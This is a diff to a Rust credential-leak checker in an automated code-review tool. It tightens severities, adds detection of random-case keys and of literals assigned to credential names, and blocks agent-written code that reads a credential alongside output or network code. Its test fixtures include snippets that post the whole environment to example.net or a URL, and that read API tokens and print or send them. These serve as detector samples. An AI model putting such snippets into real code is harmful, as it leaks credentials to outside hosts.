@@ -1,11 +1,13 @@
 //! `secrets`: credentials written into the change, and code that reads or ships them.
 //!
-//! Only what the change adds is read (added lines, added files). Blocking: private key armour
-//! and the token formats of the usual services. Major: string literals that look random enough
-//! to be keys, code that reads a credential-looking environment variable, and code that gathers
-//! the whole environment in a file that also talks to the network (a build script above all).
-//! A message never repeats the secret: it names the pattern and shows at most its first four
-//! characters.
+//! Only what the change adds is read (added lines, added files). Blocking: private key armour,
+//! the token formats of the usual services, a random-looking literal given a credential's name
+//! (`api_key = "…"`), code that gathers the whole environment in a file that also talks to the
+//! network, a build script that reads a credential-looking environment variable, and an agent's
+//! code that reads one in a file where it also adds network, output or process code (a leak's
+//! shape). Major: other random-looking literals, and other reads of credential variables (a
+//! person's client for a service needs its token). A message never repeats the secret: it names
+//! the pattern and shows at most its first four characters.
 
 use super::{finding, ChangeView, Finding, Severity};
 
@@ -163,6 +165,35 @@ const NETWORK: &[&str] = &[
     "socket",
 ];
 
+/// Words that say code shows, writes or hands something on: printing, logging, files, other
+/// programs. (Some are spelled in two pieces so that tests/tidy.rs, which reads this source for
+/// printing and spawning outside their modules, does not see them here.)
+const OUTPUT: &[&str] = &[
+    concat!("print", "ln!"),
+    concat!("print", "!("),
+    concat!("eprint", "ln!"),
+    concat!("eprint", "!("),
+    concat!("dbg", "!("),
+    "write!(",
+    "writeln!(",
+    "log::",
+    "tracing::",
+    "info!(",
+    "warn!(",
+    "error!(",
+    "debug!(",
+    "fs::write",
+    concat!("File", "::create"),
+    concat!("Command", "::new"),
+    "print(",
+    "console.log",
+    "console.error",
+    "subprocess",
+    "os.system",
+    "child_process",
+    "exec(",
+];
+
 /// At most the first four characters of a secret, then an ellipsis.
 fn preview(s: &str) -> String {
     format!("{}…", s.chars().take(4).collect::<String>())
@@ -251,17 +282,58 @@ fn entropy(s: &str) -> f64 {
         .sum()
 }
 
-/// A literal that looks like a random key: 32 or more characters of a key alphabet, with
-/// letters and digits, more than 4 bits of entropy a character, and not a hex id (git object
-/// ids, hashes, UUIDs: hex carries at most 4 bits a character anyway).
-fn random_looking(s: &str) -> bool {
+/// A literal that looks like a random key: `min_len` or more characters of a key alphabet, with
+/// letters and either digits or random-looking mixed case, more than 4 bits of entropy a
+/// character (3.5 below 32 characters, where fewer distinct ones fit), and not a hex id (git
+/// object ids, hashes, UUIDs: hex carries at most 4 bits a character anyway).
+fn random_looking(s: &str, min_len: usize) -> bool {
     let alphabet = |c: char| c.is_ascii_alphanumeric() || "+/=_-".contains(c);
-    s.len() >= 32
+    let bits = if s.len() >= 32 { 4.0 } else { 3.5 };
+    s.len() >= min_len
         && s.chars().all(alphabet)
         && !s.chars().all(|c| c.is_ascii_hexdigit() || c == '-')
-        && s.chars().any(|c| c.is_ascii_digit())
         && s.chars().any(|c| c.is_ascii_alphabetic())
-        && entropy(s) > 4.0
+        && (s.chars().any(|c| c.is_ascii_digit()) || random_case(s))
+        && entropy(s) > bits
+}
+
+/// Letters whose case looks random rather than camelCase or an acronym: between a quarter and
+/// three quarters upper case, and the case switching at 30 % or more of adjacent letters
+/// (camelCase switches twice a word, random letters every other letter).
+fn random_case(s: &str) -> bool {
+    let letters: Vec<bool> = s
+        .chars()
+        .filter(char::is_ascii_alphabetic)
+        .map(|c| c.is_ascii_uppercase())
+        .collect();
+    if letters.len() < 2 {
+        return false;
+    }
+    let upper = letters.iter().filter(|u| **u).count() as f64 / letters.len() as f64;
+    let switches = letters.windows(2).filter(|w| w[0] != w[1]).count() as f64;
+    (0.25..=0.75).contains(&upper) && switches / (letters.len() - 1) as f64 >= 0.3
+}
+
+/// Whether the line, besides the literal `lit`, names a credential (`api_key = "…"`,
+/// `const WEBHOOK_SECRET: &str = "…"`, `{ apiKey: '…' }`).
+fn names_credential(line: &str, lit: &str) -> bool {
+    line.replacen(lit, "", 1)
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+        .any(|w| !w.is_empty() && credential_name(&camel_to_snake(w)))
+}
+
+/// `apiKey` → `api_Key`, so that a camelCase name splits into its words like a snake_case one.
+fn camel_to_snake(w: &str) -> String {
+    let mut out = String::with_capacity(w.len() + 4);
+    let mut prev_lower = false;
+    for c in w.chars() {
+        if c.is_ascii_uppercase() && prev_lower {
+            out.push('_');
+        }
+        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
+        out.push(c);
+    }
+    out
 }
 
 fn credential_name(name: &str) -> bool {
@@ -347,6 +419,10 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
         let networked = added
             .iter()
             .any(|(_, l)| NETWORK.iter().any(|w| l.contains(w)));
+        let sends = networked
+            || added
+                .iter()
+                .any(|(_, l)| OUTPUT.iter().any(|w| l.contains(w)));
         let mut push = |severity, line, message: String, hint: &str| {
             out.push(finding(
                 reviewer,
@@ -382,31 +458,59 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
                 );
             }
             if !blocked {
-                if let Some(lit) = literals(line).into_iter().find(|l| random_looking(l)) {
-                    push(
-                        Severity::Major,
-                        *n,
-                        format!(
-                            "a string literal of {} random-looking characters ({}) at line {n}: a key or token?",
-                            lit.len(),
-                            preview(lit)
-                        ),
-                        "if it is a credential, remove and revoke it; if it is not (a fixture, a checksum), say so in the rationale",
-                    );
+                let found = literals(line).into_iter().find_map(|l| {
+                    let named = names_credential(line, l);
+                    random_looking(l, if named { 20 } else { 32 }).then_some((l, named))
+                });
+                if let Some((lit, named)) = found {
+                    if named {
+                        push(
+                            Severity::Blocking,
+                            *n,
+                            format!(
+                                "a credential's name given a string literal of {} random-looking characters ({}) at line {n}",
+                                lit.len(),
+                                preview(lit)
+                            ),
+                            remove,
+                        );
+                    } else {
+                        push(
+                            Severity::Major,
+                            *n,
+                            format!(
+                                "a string literal of {} random-looking characters ({}) at line {n}: a key or token?",
+                                lit.len(),
+                                preview(lit)
+                            ),
+                            "if it is a credential, remove and revoke it; if it is not (a fixture, a checksum), say so in the rationale",
+                        );
+                    }
                 }
             }
             if let Some(name) = credential_env(&code, line) {
-                let place = if build_script {
-                    "a build script (it runs on every machine that builds)"
+                if build_script {
+                    push(
+                        Severity::Blocking,
+                        *n,
+                        format!("a build script (it runs on every machine that builds) reads the credential-looking environment variable {name} at line {n}"),
+                        "a build needs no credential: remove the read, and give the code that needs it the variable at run time",
+                    );
+                } else if change.agent_origin && sends {
+                    push(
+                        Severity::Blocking,
+                        *n,
+                        format!("an agent's code reads the credential-looking environment variable {name} at line {n}, and the change also adds network, output or process code to this file"),
+                        "an agent may not write code that handles credentials and sends or shows anything: propose it as a person, saying where the credential goes",
+                    );
                 } else {
-                    "the code"
-                };
-                push(
-                    Severity::Major,
-                    *n,
-                    format!("{place} reads the credential-looking environment variable {name} at line {n}"),
-                    "say in the rationale why this code needs the credential and where it goes",
-                );
+                    push(
+                        Severity::Major,
+                        *n,
+                        format!("the code reads the credential-looking environment variable {name} at line {n}"),
+                        "say in the rationale why this code needs the credential and where it goes",
+                    );
+                }
             }
             if whole_env(&code) && networked {
                 let place = if build_script {
@@ -415,7 +519,7 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
                     "a file"
                 };
                 push(
-                    Severity::Major,
+                    Severity::Blocking,
                     *n,
                     format!("{place} gathers the whole environment at line {n}, and the change also adds network code to it"),
                     "read only the variables the code needs; never send the environment anywhere",
@@ -543,6 +647,7 @@ mod tests {
         );
         let env = |name: &str| format!("let t = std::env::{}(\"{name}\");\n", "var");
         let entropic = noise(&format!("{}+/", alnum()), 40, 7);
+        let letters = noise(&alnum()[..52], 40, 24);
         vec![
             Case {
                 secret: noise(&alnum(), 64, 1),
@@ -563,18 +668,18 @@ mod tests {
             secret("openai", format!("s{}-proj-{}", "k", noise(&alnum(), 48, 13)), "sk-", B),
             secret("anthropic", format!("s{}-ant-api03-{}", "k", noise(&alnum(), 48, 14)), "Anthropic", B),
             secret("google", format!("AI{}{}", "za", noise(&alnum(), 35, 15)), "Google", B),
-            secret("high entropy literal", entropic, "random-looking", M),
+            secret("high entropy literal", entropic.clone(), "random-looking", M),
             case("token env var", "src/client.rs", None, &env("GITHUB_TOKEN"), &[M], "GITHUB_TOKEN"),
             case("api key env var", "src/client.rs", None, &env("OPENAI_API_KEY"), &[M], "OPENAI_API_KEY"),
             case("python secret env", "tools/x.py", None, "pw = os.environ['DB_PASSWORD']\n", &[M], "DB_PASSWORD"),
             case("node secret env", "web/x.js", None, "const s = process.env.AWS_SECRET_ACCESS_KEY;\n", &[M], "AWS_SECRET_ACCESS_KEY"),
-            case("build script reads a token", "build.rs", None, &format!("fn main() {{\n    {}}}\n", env("NPM_TOKEN")), &[M], "build script"),
+            case("build script reads a token", "build.rs", None, &format!("fn main() {{\n    {}}}\n", env("NPM_TOKEN")), &[B], "build script"),
             case(
                 "build script ships the environment",
                 "build.rs",
                 None,
                 &format!("fn main() {{\n    let all: Vec<_> = std::env::{}().collect();\n    ureq::post(\"https://example.net\").send_json(all);\n}}\n", "vars"),
-                &[M],
+                &[B],
                 "whole environment",
             ),
             case(
@@ -582,8 +687,36 @@ mod tests {
                 "setup.py",
                 Some("import os\n"),
                 "import os\nimport requests\nrequests.post(URL, json=dict(os.environ))\n",
-                &[M],
+                &[B],
                 "whole environment",
+            ),
+            Case {
+                secret: entropic.clone(),
+                ..case("random literal named a secret", "src/hook.rs", None, &format!("const WEBHOOK_SECRET: &str = \"{entropic}\";\n"), &[B], "credential's name")
+            },
+            Case {
+                secret: letters.clone(),
+                ..case("letters-only key named in camelCase", "web/config.js", None, &format!("module.exports = {{ apiKey: '{letters}' }};\n"), &[B], "credential's name")
+            },
+            Case {
+                secret: letters.clone(),
+                ..case("letters-only random literal", "src/a.rs", None, &quoted(&letters), &[M], "random-looking")
+            },
+            case(
+                "an agent reads a token and prints it",
+                "src/diag.rs",
+                None,
+                &format!("{}eprintln!(\"{{t:?}}\");\n", env("GITHUB_TOKEN")),
+                &[B],
+                "also adds network, output or process code",
+            ),
+            case(
+                "an agent reads a key and posts it",
+                "src/telemetry.rs",
+                Some("use x;\n"),
+                &format!("use x;\n{}ureq::post(URL).send(t);\n", env("OPENAI_API_KEY")),
+                &[B],
+                "OPENAI_API_KEY",
             ),
             // --- Nothing.
             case("git commit id", "src/a.rs", None, &quoted(&noise(&hex(), 40, 16)), &[], ""),
@@ -595,6 +728,10 @@ mod tests {
             case("short literal", "src/a.rs", None, "let s = \"sk-short\"; let p = \"ghp_x\";\n", &[], ""),
             case("kebab-case words", "src/a.rs", None, "let s = \"task-some-long-kebab-case-name-here\";\n", &[], ""),
             case("long snake_case identifier", "src/a.rs", None, "let s = \"governance_does_no_io_no_clock_no_git_at_all\";\n", &[], ""),
+            case("long camelCase identifier", "src/a.rs", None, "let s = \"camelCaseIdentifierWithManyWordsInIt\";\n", &[], ""),
+            case("a credential's name with a placeholder", "src/a.rs", None, "let api_key = \"replace-me-with-your-own-key\";\n", &[], ""),
+            case("a credential's name with a variable's name", "src/a.rs", None, "const TOKEN_VAR: &str = \"ATELIER_GITHUB_TOKEN_FOR_CI\";\n", &[], ""),
+            case("a credential's name with a hash", "src/a.rs", None, &format!("let key_digest = \"{}\";\n", noise(&hex(), 64, 23)), &[], ""),
             case("prose", "README.md", None, "The token is read from the environment at run time.\n", &[], ""),
             Case {
                 base: Some(quoted(&format!("gh{}_{}", "p", noise(&alnum(), 36, 18)))),
@@ -638,6 +775,29 @@ mod tests {
         }
         assert!(failures.is_empty(), "{}", failures.join("\n"));
         assert!(all.len() >= 30, "{} cases", all.len());
+    }
+
+    #[test]
+    fn a_person_reading_a_credential_is_asked_not_blocked() {
+        let head = format!(
+            "let t = std::env::{}(\"GITHUB_TOKEN\");\nureq::get(URL).header(\"Authorization\", t);\n",
+            "var"
+        );
+        let files = [fc("src/client.rs", None, Some(&head))];
+        let view = ChangeView {
+            files: &files,
+            agent_origin: false,
+            declared: None,
+        };
+        let found = check("secrets", &view);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(found[0].severity, Severity::Major);
+        // The same change from an agent blocks.
+        let agent = ChangeView {
+            agent_origin: true,
+            ..view
+        };
+        assert_eq!(check("secrets", &agent)[0].severity, Severity::Blocking);
     }
 
     #[test]
@@ -695,6 +855,16 @@ mod tests {
         assert!(!credential_name("MONKEY_BUSINESS") && !credential_name("KEYBOARD"));
         assert!(whole_env("dict(os.environ)") && !whole_env("os.environ['X']"));
         assert!(whole_env("send(process.env)") && !whole_env("process.env.X"));
+        assert!(random_case(&noise(&alnum()[..52], 40, 25)));
+        assert!(
+            !random_case("camelCaseIdentifierWithManyWords")
+                && !random_case("HTTPServerXMLConfigLoader")
+        );
+        assert!(
+            names_credential("{ apiKey: 'x' }", "x")
+                && names_credential("let gh_pat = \"x\";", "x")
+        );
+        assert!(!names_credential("let greeting = \"x\";", "x"));
         // A token inside a longer word is not one.
         let inner = format!("xyzgh{}_{}", "p", noise(&alnum(), 36, 22));
         assert!(tokens(&inner).is_empty());
